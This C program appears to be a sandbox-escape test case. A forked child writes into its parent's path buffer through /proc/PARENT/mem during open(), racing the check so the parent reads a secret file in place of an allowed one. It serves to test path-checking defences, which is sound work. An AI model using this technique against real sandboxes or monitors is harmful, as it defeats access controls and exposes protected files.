/* e0105-toctou-proc-mem - argument TOCTOU on open(), by a sibling process
 * writing the path through /proc/PID/mem.
 *
 * Attack: the program forks; the child opens /proc/PARENT/mem and rewrites
 * the parent's path buffer between the allowed file and the secret, while
 * the parent opens and reads the buffer's path.
 * Source: Watson 2007; Garfinkel 2003 (/proc as an indirect path to
 * resources); DESIGN.md "Races and side doors".
 * Usage: e0105-toctou-proc-mem ALLOWED SECRET */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

static int mem_fd = -1;

static int poke(pid_t parent, void *addr, const char *text)
{
	/* Opened once, by the first poke: in the sibling. */
	if (mem_fd < 0) {
		char mem[64];
		snprintf(mem, sizeof mem, "/proc/%d/mem", (int)parent);
		mem_fd = open(mem, O_RDWR | O_CLOEXEC);
		if (mem_fd < 0) {
			esc_show_result("open /proc/PARENT/mem", -1);
			return -1;
		}
	}
	if (pwrite(mem_fd, text, strlen(text) + 1, (off_t)(uintptr_t)addr) >= 0)
		return 0;
	esc_show_result("write to /proc/PARENT/mem", -1);
	return -1;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0105-toctou-proc-mem ALLOWED SECRET");
	esc_race_sibling_poke(argv[1], argv[2], poke);
	return 0;
}
